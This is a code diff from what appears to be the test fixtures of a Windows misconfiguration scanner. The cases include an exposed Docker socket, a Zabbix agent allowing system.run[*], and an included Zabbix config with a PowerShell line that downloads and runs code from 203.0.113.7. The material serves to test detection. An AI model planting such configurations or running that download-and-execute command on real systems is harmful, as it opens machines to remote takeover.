@@ -128,7 +128,7 @@ set_up('orders-over-the-network-in-settings', 'Whoever reaches the port starts c
        '{"hosts": ["tcp://0.0.0.0:2375", "npipe://"]}')
 set_up('commands-of-a-monitoring-server', 'The server carries out any command.', 'system.run', ZABBIX, r'Program Files\Zabbix Agent 2\zabbix_agent2.conf',
        'Server=203.0.113.7\r\nAllowKey=system.run[*]\r\n')
-change.row('commands-of-an-included-file', 'The settings include those of a folder.', SERVICE, 'iex', lambda d: (
+change.row('commands-of-an-included-file', 'The settings include those of a folder.', SERVICE, r'Services\App', lambda d: (
     d.honest(ZABBIX), d.put(r'Program Files\Zabbix Agent 2\a.conf', 'Include=.\\zabbix_agent2.d\\*.conf\r\n'), d.windows(r'WindowsPowerShell\v1.0\powershell.exe'),
     d.put(r'Program Files\Zabbix Agent 2\zabbix_agent2.d\u.conf', 'UserParameter=a,powershell -c "iex (iwr http://203.0.113.7/a)"\r\n'),
     d.service('App', f'"{ZABBIX}" -c "C:\\Program Files\\Zabbix Agent 2\\a.conf" -f=false')))
